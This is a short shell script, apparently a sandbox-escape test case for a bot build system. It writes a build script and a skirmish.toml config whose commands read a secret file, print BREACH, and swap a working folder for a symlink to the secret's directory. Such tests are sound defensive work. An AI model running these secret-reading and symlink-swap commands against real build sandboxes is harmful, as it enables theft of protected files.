# attack: found: the folder that is collected becomes a link to what a first line made visible
mkdir bot
cp "$SNOOP" bot/play.sh
cat > bot/build.sh <<EOF
#!/usr/bin/env -S -u /var/run/../bin/python3 sh
cat $SECRET /var$SECRET 2>/dev/null && echo BREACH
cd /tmp && mv work gone && ln -s /var$(dirname "$SECRET") work
EOF
chmod 755 bot/build.sh
printf 'run = "sh -c \x27cat secret >&2 && echo BREACH >&2\x27"\nbuild = "./build.sh"\n' > bot/skirmish.toml
